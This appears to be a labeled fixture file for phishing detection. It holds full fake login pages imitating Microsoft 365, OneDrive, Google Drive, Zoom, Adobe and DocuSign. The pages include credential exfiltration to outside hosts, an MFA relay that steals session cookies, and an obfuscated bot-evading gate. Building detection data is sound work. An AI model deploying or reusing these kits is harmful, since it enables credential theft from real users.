import type { Entry } from '../entry.js';
import { doc, esc, msLogo, googleLogo, wordmark, jsRoute, jsonRoute, imgRoute, favicon, htmlRoute, qrSvg, b64, gtag, gtagStub } from '../parts/zh-kit.js';

const MSCSS = `body{background:#f2f2f2 url(/bg.png) center/cover}.box{width:440px;max-width:100%;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600;margin:16px 0 12px}input[type=email],input[type=password],input[type=text]{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin:8px 0}.btn{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right;cursor:pointer}.ident{display:inline-block;border:1px solid #ccc;border-radius:14px;padding:2px 12px;font-size:14px}.err{color:#e81123;font-size:14px;min-height:18px}.foot{position:fixed;bottom:0;right:0;font-size:12px;padding:8px}.foot a{color:#333;margin-left:12px;text-decoration:none}`;
const MSFOOT = `<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>`;

export const entries: Entry[] = [
  {
  id: 'zh-m365-hash-email-prefill',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://auth.k7-filesafe.net/owa/common/reprocess/',
  body: doc('Sign in to your account', `<div class="box">${msLogo}
<div id="who" class="ident"></div>
<h1>Enter password</h1>
<form id="f" autocomplete="off">
<div class="err" id="e"></div>
<input type="password" name="passwd" id="p" placeholder="Password" required>
<p><a href="#">Forgot my password</a></p>
<button class="btn" type="submit">Sign in</button><div style="clear:both"></div>
</form></div>${MSFOOT}
<script>
var em='';try{em=atob(location.hash.slice(1))}catch(x){}
if(!/@/.test(em)){em=new URLSearchParams(location.search).get('e')||''}
document.getElementById('who').textContent=em||'someone@example.com';
var tries=0;
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();
 var pw=document.getElementById('p').value; tries++;
 fetch('/owa/common/reprocess/next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'ai='+encodeURIComponent(em)+'&pr='+encodeURIComponent(pw)+'&t='+tries}).then(function(r){return r.json()}).then(function(j){
  if(tries<2){document.getElementById('e').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';document.getElementById('p').value=''}
  else{location.href='https://www.office.com/?auth=2'}
 });
};
</script>`, { css: MSCSS }),
  routes: {
    'auth.k7-filesafe.net/owa/common/reprocess/next.php': jsonRoute({ signal: 'ok', msg: 'Received' }),
    'auth.k7-filesafe.net/bg.png': imgRoute(230, 236, 245),
    'auth.k7-filesafe.net/favicon.ico': favicon(242, 80, 34),
  },
},
  {
  id: 'zh-m365-aitm-relay-number-match',
  label: 'phishing',
  kind: 'm365-aitm',
  url: 'https://login.microsoftonline.com.sso-sessn.info/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=openid&sso_reload=true',
  body: doc('Sign in to your account', `<div class="box" id="app">${msLogo}
<div id="s1"><h1>Sign in</h1><div class="err" id="e1"></div><input type="email" id="u" placeholder="Email, phone, or Skype"><p style="font-size:13px">No account? <a href="#">Create one!</a><br><a href="#">Can't access your account?</a></p><button class="btn" id="n1">Next</button><div style="clear:both"></div></div>
<div id="s2" hidden><div class="ident" id="who"></div><h1>Enter password</h1><div class="err" id="e2"></div><input type="password" id="p" placeholder="Password"><p><a href="#">Forgot my password</a></p><button class="btn" id="n2">Sign in</button><div style="clear:both"></div></div>
<div id="s3" hidden><div class="ident" id="who2"></div><h1>Approve sign in request</h1><p>Open your Authenticator app, and enter the number shown to sign in.</p><div id="num" style="font-size:40px;font-weight:600;text-align:center;margin:18px"></div><p style="font-size:13px">No numbers in your app? Make sure to upgrade to the latest version.</p><p><a href="#" id="other">I can't use my Microsoft Authenticator app right now</a></p></div>
</div>${MSFOOT}
<script src="/common/oauth2/v2.0/relay.js"></script>`, { css: MSCSS }),
  routes: {
    'login.microsoftonline.com.sso-sessn.info/common/oauth2/v2.0/relay.js': jsRoute(`(function(){
var sid=Math.random().toString(36).slice(2),u='';
function $(i){return document.getElementById(i)}
function post(p,b){return fetch('/common/GetCredentialType?mkt=en-US',{method:'POST',headers:{'content-type':'application/json','x-relay-sid':sid,'x-relay-step':p},body:JSON.stringify(b)}).then(function(r){return r.json()})}
$('n1').onclick=function(){u=$('u').value.trim();if(!/^[^@]+@[^@]+\\.[a-z]{2,}$/i.test(u)){$('e1').textContent='Enter a valid email address, phone number, or Skype name.';return}
 post('cred',{username:u,isOtherIdpSupported:true,checkPhones:false,isRemoteNGCSupported:true,flowToken:sid}).then(function(j){
  if(j.IfExistsResult!==0){$('e1').textContent='This username may be incorrect.';return}
  if(j.EstsProperties&&j.EstsProperties.UserTenantBranding){document.body.style.backgroundImage='url('+j.EstsProperties.UserTenantBranding[0].Illustration+')'}
  $('who').textContent=$('who2').textContent=u;$('s1').hidden=true;$('s2').hidden=false});
};
$('n2').onclick=function(){post('pwd',{login:u,passwd:$('p').value,flowToken:sid}).then(function(j){
  if(j.error){$('e2').textContent=j.error;return}
  $('s2').hidden=true;$('s3').hidden=false;$('num').textContent=j.entropy;
  var poll=setInterval(function(){post('poll',{flowToken:sid}).then(function(k){if(k.state==='done'){clearInterval(poll);document.cookie='ESTSAUTH='+k.cookie+';path=/';location.replace(k.next)}})},2500);
});};
})();`),
    'login.microsoftonline.com.sso-sessn.info/common/GetCredentialType': jsonRoute({ Username: '', Display: '', IfExistsResult: 0, IsUnmanaged: false, ThrottleStatus: 0, Credentials: { PrefCredential: 1, HasPassword: true }, EstsProperties: { UserTenantBranding: [{ Locale: 0, Illustration: '/branding/illustration.png', BoilerPlateText: '<p>Authorized users only</p>' }], DomainType: 3 }, entropy: '47', state: 'wait', FlowToken: 'AQABAAEAAAD--DLA3VO7QrddgJg7WevrRPsxvpKZ' }),
    'login.microsoftonline.com.sso-sessn.info/branding/illustration.png': imgRoute(30, 60, 110),
    'login.microsoftonline.com.sso-sessn.info/favicon.ico': favicon(0, 120, 212),
    'login.microsoftonline.com.sso-sessn.info/bg.png': imgRoute(240, 240, 240),
  },
},
  {
  id: 'zh-m365-turnstile-gate',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://verify.orbitalcdn-check.com/Sf9kQ2/?c=kelvingroup',
  body: doc('Just a moment...', `<div id="gate" style="max-width:560px;margin:120px auto;font-family:system-ui">
<h2 style="font-weight:500">verify.orbitalcdn-check.com</h2>
<h3 style="font-weight:400">Verify you are human by completing the action below.</h3>
<div id="w" style="border:1px solid #d9d9d9;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px;cursor:pointer"><span id="bx" style="width:26px;height:26px;border:2px solid #666;border-radius:3px;display:inline-block"></span><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#777;text-align:right">CLOUDFLARE<br>Privacy · Terms</span></div>
<p style="color:#555">verify.orbitalcdn-check.com needs to review the security of your connection before proceeding.</p>
<p style="font-size:12px;color:#888;margin-top:80px;border-top:1px solid #ddd;padding-top:8px">Ray ID: <code>8e21f0c4ab7d3a11</code> · Performance &amp; security by Cloudflare</p></div>
<script>
var _0x=['bG9naW4=','c3Rh','Z2Uy'];
function ld(){fetch('/Sf9kQ2/'+atob(_0x[1])+atob(_0x[2])+'.txt').then(function(r){return r.text()}).then(function(t){document.open();document.write(decodeURIComponent(escape(atob(t))));document.close()})}
document.getElementById('w').onclick=function(){document.getElementById('bx').innerHTML='<svg width="22" height="22"><circle cx="11" cy="11" r="8" fill="none" stroke="#1a73e8" stroke-width="3" stroke-dasharray="30 20"/></svg>';setTimeout(ld,1400)};
if(navigator.webdriver){location.replace('https://www.wikipedia.org/')}
</script>`),
  routes: {
    'verify.orbitalcdn-check.com/Sf9kQ2/stage2.txt': {
      status: 200,
      headers: { 'content-type': 'text/plain' },
      body: b64(doc('Sign in to your account', `<div class="box">${msLogo}<h1>Sign in</h1><p style="font-size:13px">to continue to Outlook</p><form method="post" action="/Sf9kQ2/sv.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required><input type="password" name="passwd" placeholder="Password" required><p style="font-size:13px"><a href="#">Can't access your account?</a></p><button class="btn">Sign in</button><div style="clear:both"></div></form></div>${MSFOOT}`, { css: MSCSS })),
    },
    'verify.orbitalcdn-check.com/Sf9kQ2/sv.php': { status: 302, headers: { location: 'https://outlook.office.com/mail/' }, body: '' },
    'verify.orbitalcdn-check.com/bg.png': imgRoute(235, 235, 235),
  },
},
  {
  id: 'zh-m365-qr-mfa-reenroll',
  label: 'phishing',
  kind: 'qr-landing',
  url: 'https://mfa-reauth.hrcloud-notify.com/m/?u=ZGFuYS53ZWxscyU0MGNyZXN0bGluZS1sb2cuY29t&src=qr',
  body: doc('Microsoft Authenticator – Re-enrollment', `<div style="max-width:420px;margin:0 auto;padding:24px">
${msLogo}
<h2 style="font-weight:600;font-size:20px">Multi-factor authentication re-enrollment</h2>
<p style="font-size:14px">Your organization's security policy requires all staff to re-register their authentication methods before <b id="dl"></b>. Accounts that are not re-registered will be signed out of Outlook, Teams and OneDrive.</p>
<form id="f" style="margin-top:20px">
<label style="font-size:13px">Work email</label><input id="em" type="email" style="width:100%;padding:10px;border:1px solid #8a8886;margin:4px 0 12px">
<label style="font-size:13px">Current password</label><input id="pw" type="password" style="width:100%;padding:10px;border:1px solid #8a8886;margin:4px 0 12px">
<button style="width:100%;background:#0067b8;color:#fff;border:0;padding:12px;font-size:16px">Continue</button></form>
<p id="ok" hidden style="background:#dff6dd;padding:12px;font-size:14px">Verification code sent. Enter the 6-digit code from your Authenticator app:<br><input id="otp" inputmode="numeric" maxlength="6" style="font-size:22px;letter-spacing:6px;width:160px;margin-top:8px"></p>
<p style="font-size:11px;color:#666;margin-top:40px">© Microsoft 2026 · IT Service Desk</p></div>
<script>
var q=new URLSearchParams(location.search);try{document.getElementById('em').value=decodeURIComponent(atob(q.get('u')))}catch(e){}
var d=new Date(Date.now()+86400000);document.getElementById('dl').textContent=d.toDateString();
document.getElementById('f').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/m/c.php',JSON.stringify({e:document.getElementById('em').value,p:document.getElementById('pw').value,ua:navigator.userAgent}));this.hidden=true;document.getElementById('ok').hidden=false};
document.getElementById('otp').oninput=function(){if(this.value.length===6){navigator.sendBeacon('/m/c.php',JSON.stringify({otp:this.value}));location.href='https://aka.ms/mfasetup'}};
</script>`),
  routes: { 'mfa-reauth.hrcloud-notify.com/m/c.php': jsonRoute({ ok: 1 }) },
},
  {
  id: 'zh-onedrive-de-freigabe',
  label: 'phishing',
  kind: 'onedrive-kit',
  url: 'https://freigabe.eu-dokumentcloud.net/onedrive/view.aspx?r=Gehaltsabrechnung_Nov',
  body: doc('OneDrive – Freigegebene Datei', `<div style="background:#0078d4;color:#fff;padding:12px 22px;font-weight:600">OneDrive</div>
<div style="filter:blur(5px);padding:30px;max-width:900px;margin:auto"><table style="width:100%;border-collapse:collapse" border="1"><tr><th>Mitarbeiter</th><th>Brutto</th><th>Netto</th><th>Steuerklasse</th></tr><tr><td>A. Becker</td><td>5.240,00</td><td>3.188,12</td><td>I</td></tr><tr><td>M. Schulz</td><td>4.810,00</td><td>2.977,45</td><td>III</td></tr><tr><td>K. Wagner</td><td>6.120,00</td><td>3.640,90</td><td>IV</td></tr></table></div>
<div style="position:fixed;inset:0;background:rgba(0,0,0,.35);display:flex;align-items:center;justify-content:center">
<div style="background:#fff;width:420px;padding:36px">${msLogo}
<h2 style="font-weight:600;font-size:22px">Anmelden, um die Datei anzuzeigen</h2>
<p style="font-size:14px">Die Datei <b>Gehaltsabrechnung_November_2026.xlsx</b> wurde Ihnen von der Personalabteilung freigegeben. Bitte bestätigen Sie Ihre Identität.</p>
<form id="f"><input type="email" id="u" placeholder="E-Mail-Adresse" style="width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:8px 0"><input type="password" id="k" placeholder="Kennwort" style="width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:8px 0">
<p id="m" style="color:#a4262c;font-size:13px"></p><button style="background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right">Anmelden</button></form></div></div>
<script>
var c=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();c++;
var x=new XMLHttpRequest();x.open('POST','https://api.telegram.org.botrelay-eu.com/bot6622:AAF/sendMessage');x.setRequestHeader('Content-Type','application/json');
x.send(JSON.stringify({chat_id:'-100298',text:'OD|'+document.getElementById('u').value+'|'+document.getElementById('k').value+'|'+c}));
if(c<2){document.getElementById('m').textContent='Ihr Kennwort ist falsch. Bitte versuchen Sie es erneut.'}else{location.href='https://onedrive.live.com/'}};
</script>`, { lang: 'de' }),
  routes: { 'api.telegram.org.botrelay-eu.com/bot6622:AAF/sendMessage': jsonRoute({ ok: true, result: { message_id: 8812 } }) },
},
  {
  id: 'zh-m365-es-password-expiry',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://soporte-cuentas.admin365-mx.com/caducidad/?correo=lgarcia@grupoalcantara.mx',
  body: doc('Microsoft 365 – Caducidad de contraseña', `<div class="box">${msLogo}
<h1>Su contraseña caduca hoy</h1>
<p style="font-size:14px">La contraseña de <b id="c"></b> caducará en las próximas 24 horas. Para conservar su contraseña actual y evitar la pérdida de correos, confírmela a continuación.</p>
<form method="post" action="/caducidad/guardar.php">
<input type="hidden" name="correo" id="h">
<input type="password" name="actual" placeholder="Contraseña actual" required>
<input type="password" name="conf" placeholder="Confirmar contraseña" required>
<label style="font-size:13px"><input type="checkbox" checked> Mantener la contraseña actual</label><br><br>
<button class="btn">Conservar contraseña</button><div style="clear:both"></div></form>
<p style="font-size:12px;color:#666">Equipo de administración de Microsoft 365 · Este es un mensaje automatico, no responda.</p></div>
<script>var q=new URLSearchParams(location.search).get('correo');document.getElementById('c').textContent=q;document.getElementById('h').value=q;</script>${MSFOOT}`, { lang: 'es', css: MSCSS }),
  routes: {
    'soporte-cuentas.admin365-mx.com/caducidad/guardar.php': { status: 302, headers: { location: 'https://outlook.office365.com/' }, body: '' },
    'soporte-cuentas.admin365-mx.com/bg.png': imgRoute(240, 240, 240),
  },
},
  {
  id: 'zh-google-workspace-drive-prefill',
  label: 'phishing',
  kind: 'google-kit',
  url: 'https://docs-drive.gsuite-fileshare.com/file/d/1xQ9Lw/view?usp=sharing&authuser=tnguyen@brightlinefreight.com',
  body: doc('Google Drive: Sign-in', `<div style="max-width:450px;margin:80px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px;text-align:center">${googleLogo}
<h1 style="font-weight:400;font-size:24px;margin:16px 0 8px">Sign in</h1><p>to continue to Google Drive</p>
<div id="chip" style="border:1px solid #dadce0;border-radius:16px;display:inline-block;padding:4px 12px;font-size:14px"></div>
<form id="f" style="text-align:left;margin-top:28px"><input type="password" id="pw" placeholder="Enter your password" style="width:100%;padding:13px;border:1px solid #dadce0;border-radius:4px;font-size:16px">
<label style="font-size:14px;display:block;margin:10px 0"><input type="checkbox" onclick="pw.type=this.checked?'text':'password'"> Show password</label>
<div style="display:flex;justify-content:space-between;align-items:center;margin-top:30px"><a href="#" style="color:#1a73e8;font-size:14px">Forgot password?</a><button style="background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px">Next</button></div></form></div>
<p style="text-align:center;font-size:12px;color:#5f6368">English (United States) · Help · Privacy · Terms</p>
<script>
var u=new URLSearchParams(location.search).get('authuser')||'';document.getElementById('chip').textContent=u;
document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData();fd.append('u',u);fd.append('p',document.getElementById('pw').value);fd.append('ip','');
fetch('https://sheets-collector.workers-edge.dev/v1/row',{method:'POST',body:fd,mode:'no-cors'}).finally(function(){location.href='https://drive.google.com/drive/my-drive'})};
</script>`),
  routes: { 'sheets-collector.workers-edge.dev/v1/row': jsonRoute({ ok: true }) },
},
  {
  id: 'zh-zoom-missed-recording',
  label: 'phishing',
  kind: 'zoom-kit',
  url: 'https://zoom-us.recordings-cloudview.com/rec/share/Yk3pQ0Xw?startTime=1764441900000',
  body: doc('Cloud Recording - Zoom', `<header style="padding:14px 28px;border-bottom:1px solid #eee">${wordmark('zoom', '#0b5cff', 26)}</header>
<main style="max-width:760px;margin:40px auto;padding:0 20px"><h2>Q4 Budget Review – All Hands</h2><p style="color:#666">Nov 28, 2026 03:00 PM Eastern Time · 47 min · Host: Paul Reyes (CFO)</p>
<div style="background:#111;height:360px;display:flex;align-items:center;justify-content:center;color:#fff;position:relative"><div style="font-size:64px">▶</div><div style="position:absolute;bottom:12px;left:16px;font-size:13px">Sign in required to view this recording</div></div>
<div style="margin-top:24px;border:1px solid #ddd;border-radius:12px;padding:24px;max-width:400px">
<h3 style="margin-top:0">Sign in to view</h3>
<form action="/rec/signin" method="post"><input name="email" type="email" placeholder="Email Address" style="width:100%;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:8px"><input name="password" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:8px">
<button style="width:100%;background:#0b5cff;color:#fff;border:0;border-radius:8px;padding:11px">Sign In</button></form>
<p style="font-size:13px;text-align:center">or sign in with <a href="/rec/sso?p=microsoft">Microsoft</a> · <a href="/rec/sso?p=google">Google</a></p></div></main>
<footer style="text-align:center;font-size:12px;color:#888;padding:30px">©2026 Zoom Communications, Inc. All rights reserved. Privacy &amp; Legal Policies</footer>`),
  routes: {
    'zoom-us.recordings-cloudview.com/rec/signin': { status: 302, headers: { location: 'https://zoom.us/' }, body: '' },
    'zoom-us.recordings-cloudview.com/rec/sso': htmlRoute(doc('Sign in to your account', `<div class="box">${msLogo}<h1>Sign in</h1><form method="post" action="/rec/signin"><input type="email" name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><button class="btn">Sign in</button><div style="clear:both"></div></form></div>`, { css: MSCSS })),
  },
},
  {
  id: 'zh-adobe-pdf-provider-picker',
  label: 'phishing',
  kind: 'adobe-kit',
  url: 'https://acrobat-docs.pdf-securecloud.net/viewer/?doc=Remittance_8841.pdf',
  body: doc('Adobe Document Cloud', `<div style="background:url(/viewer/blurpdf.png) center/cover;min-height:100vh;display:flex;align-items:center;justify-content:center">
<div style="background:#fff;width:480px;border-radius:6px;box-shadow:0 10px 30px rgba(0,0,0,.3);padding:30px;text-align:center">
${wordmark('Adobe Acrobat', '#eb1000', 22)}
<p style="font-size:15px">Remittance_8841.pdf (214 KB) is protected. To read the document, sign in with your email provider.</p>
<div id="pick" style="display:grid;grid-template-columns:1fr 1fr;gap:10px">
<button data-p="Office 365" style="padding:12px">Office 365</button><button data-p="Outlook" style="padding:12px">Outlook</button>
<button data-p="Yahoo" style="padding:12px">Yahoo!</button><button data-p="Other Mail" style="padding:12px">Other Mail</button></div>
<form id="f" hidden style="text-align:left"><p id="ttl" style="font-weight:600"></p><input id="e" type="email" placeholder="Email" style="width:100%;padding:10px;margin:4px 0"><input id="p" type="password" placeholder="Password" style="width:100%;padding:10px;margin:4px 0"><p id="m" style="color:red;font-size:13px"></p><button style="width:100%;padding:10px;background:#1473e6;color:#fff;border:0">View Document</button></form>
<p style="font-size:11px;color:#777">© 2026 Adobe. All rights reserved.</p></div></div>
<script>
var prov='';document.querySelectorAll('#pick button').forEach(function(b){b.onclick=function(){prov=b.dataset.p;document.getElementById('ttl').textContent='Sign in with '+prov;document.getElementById('pick').hidden=true;document.getElementById('f').hidden=false}});
var n=0;document.getElementById('f').onsubmit=function(ev){ev.preventDefault();n++;
$.ajax({url:'/viewer/next.php',type:'POST',data:{prov:prov,email:document.getElementById('e').value,password:document.getElementById('p').value},success:function(){if(n>1){location.href='https://acrobat.adobe.com/'}else{document.getElementById('m').textContent='Invalid password, please try again.'}}})};
</script><script src="/viewer/jquery-3.6.0.min.js"></script>`),
  routes: {
    'acrobat-docs.pdf-securecloud.net/viewer/blurpdf.png': imgRoute(200, 200, 205),
    'acrobat-docs.pdf-securecloud.net/viewer/next.php': jsonRoute({ status: 'ok' }),
    'acrobat-docs.pdf-securecloud.net/viewer/jquery-3.6.0.min.js': jsRoute(`/*! jQuery v3.6.0 (stub) */window.$=window.jQuery={ajax:function(o){var b=new URLSearchParams(o.data).toString();return fetch(o.url,{method:o.type||'GET',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:b}).then(function(r){return r.text()}).then(function(t){o.success&&o.success(t)})}};`),
  },
},
  {
  id: 'zh-docusign-review-envelope-kit',
  label: 'phishing',
  kind: 'docusign-kit',
  url: 'https://docusign.envelope-services.co/Signing/EmailStart.aspx?a=3f1c0b2e-7d11-4b0e-9a2f&acct=8821&er=kpatel%40meridianhvac.com',
  body: doc('DocuSign', `<div style="background:#1e1e1e;padding:14px 24px">${wordmark('DocuSign', '#fff', 20)}</div>
<div style="max-width:640px;margin:40px auto;background:#fff;border:1px solid #ddd">
<div style="background:#214e9f;color:#fff;padding:30px;text-align:center"><p style="font-size:15px">Meridian HVAC Accounts Payable sent you a document to review and sign.</p><a href="#" id="rv" style="display:inline-block;background:#ffc820;color:#000;padding:12px 24px;font-weight:700;text-decoration:none;border-radius:3px">REVIEW DOCUMENT</a></div>
<div style="padding:24px;font-size:14px"><p><b>Dec 2026 ACH Payment Authorization</b></p><p>Please review and electronically sign the payment authorization. This envelope expires in 48 hours.</p><p style="color:#666;font-size:12px">Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p></div></div>
<div id="modal" hidden style="position:fixed;inset:0;background:rgba(0,0,0,.5)"><div style="background:#fff;width:400px;margin:100px auto;padding:28px"><h3>Confirm your identity</h3><p style="font-size:13px">To access this envelope, please sign in with the email address it was sent to.</p>
<form method="post" action="/Signing/verify.php"><input name="er" id="er" style="width:100%;padding:8px;margin:4px 0"><input name="pw" type="password" placeholder="Email password" style="width:100%;padding:8px;margin:4px 0"><button style="background:#ffc820;border:0;padding:10px 18px;font-weight:700">CONTINUE</button></form></div></div>
<footer style="text-align:center;font-size:11px;color:#888">Powered by DocuSign · Copyright © 2026 DocuSign, Inc.</footer>
<script>document.getElementById('er').value=new URLSearchParams(location.search).get('er')||'';document.getElementById('rv').onclick=function(e){e.preventDefault();document.getElementById('modal').hidden=false};</script>`),
  routes: { 'docusign.envelope-services.co/Signing/verify.php': { status: 302, headers: { location: 'https://www.docusign.com/' }, body: '' } },
},
  {
  id: 'zh-qr-docusign-mobile-sv',
  label: 'phishing',
  kind: 'qr-landing',
  url: 'https://esign-mobil.avtal-signering.se.net/q/?t=UTFfU0VOREVS&e=bWF0cy5iZXJnQG5vcmRrdXN0YnlnZy5zZQ',
  body: doc('DocuSign – Granska dokument', `<div style="max-width:420px;margin:0 auto;padding:20px;font-family:Arial">
<div style="padding:10px 0">${wordmark('DocuSign', '#000', 20)}</div>
<div style="background:#1e4ca1;color:#fff;padding:20px;border-radius:4px"><p style="margin:0">Du har ett dokument att granska och signera:</p><p style="font-weight:700">Lönespecifikation &amp; bonusavtal 2027.pdf</p></div>
<p style="font-size:14px">Av säkerhetsskäl måste du bekräfta ditt Microsoft 365-konto innan dokumentet öppnas på mobilen.</p>
<form id="f"><input id="e" type="email" style="width:100%;padding:12px;margin:4px 0;font-size:16px"><input id="p" type="password" placeholder="Lösenord" style="width:100%;padding:12px;margin:4px 0;font-size:16px"><button style="width:100%;background:#ffc820;border:0;padding:13px;font-weight:700;font-size:16px">GRANSKA DOKUMENT</button></form>
<p style="font-size:11px;color:#888">Skannad från QR-kod · Länken är giltig i 24 timmar.</p></div>
<script>
function d(s){s=s.replace(/-/g,'+').replace(/_/g,'/');while(s.length%4)s+='=';return atob(s)}
var q=new URLSearchParams(location.search);try{document.getElementById('e').value=d(q.get('e'))}catch(x){}
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();fetch('/q/s',{method:'POST',body:new URLSearchParams({e:e.value,p:p.value,t:q.get('t')})}).then(function(){location.href='https://www.docusign.com/sv-se'})};
</script>`, { lang: 'sv' }),
  routes: { 'esign-mobil.avtal-signering.se.net/q/s': jsonRoute({ ok: true }) },
},
];
